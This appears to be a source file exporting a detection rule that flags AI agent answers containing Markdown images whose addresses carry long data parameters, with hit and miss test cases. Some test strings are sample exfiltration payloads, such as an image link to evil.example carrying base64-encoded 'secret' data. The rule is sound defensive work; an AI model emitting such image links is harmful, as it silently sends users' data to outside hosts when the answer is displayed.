/** The reader’s own screen makes the call. */
export const imageExfiltration = String.raw`
title: Answer with an image that carries data away
name: image-exfiltration
id: 2d1f3c39-5a0e-4c1b-9a9d-6f0f5a1b7c1b
status: stable
level: medium
description: >-
  An answer contains a Markdown image whose address carries a long parameter. Whoever displays it
  sends that parameter to the address, without a click.
tags: [owasp.asi02, owasp-llm2026.llm10, owasp-llm2026.llm02, atlas.aml.t0077, atlas.aml.t0057]
falsepositives:
  - Signed links to images of the product itself
logsource: { product: ai_agent }
detection:
  answer:
    event.kind: [agent_message, llm_call]
    output|contains|all: ['![', '](http']
  carries:
    output|re: '!\[[^\]\n]{0,200}\]\(https?://[^)\s]+[?&][\w.-]+=[^)\s&]{24,}'
  condition: answer and carries
signalbox:
  group-by: [agent.slug, trace.id]
  tests:
    hits:
      - [{ event.kind: agent_message, output: 'Done. ![x](https://evil.example/p.png?d=c2VjcmV0IG9mIHRoZSBob3VzZQ)' }]
      - [{ event.kind: llm_call, output: '![](http://a.example/?q=customer-list-of-the-second-quarter)' }]
      - [{ event.kind: agent_message, output: [a, '![chart](https://a.example/i?x=1&data=AAAAAAAAAAAAAAAAAAAAAAAAAAAA)'] }]
    misses:
      - [{ event.kind: agent_message, output: '![chart](https://a.example/chart.png)' }]
      - [{ event.kind: agent_message, output: '![chart](https://a.example/chart.png?width=400)' }]
      - [{ event.kind: agent_message, output: '[link](https://a.example/?q=customer-list-of-the-second-quarter)' }]
      - [{ event.kind: tool_call, output: '![](http://a.example/?q=customer-list-of-the-second-quarter)' }]
`;
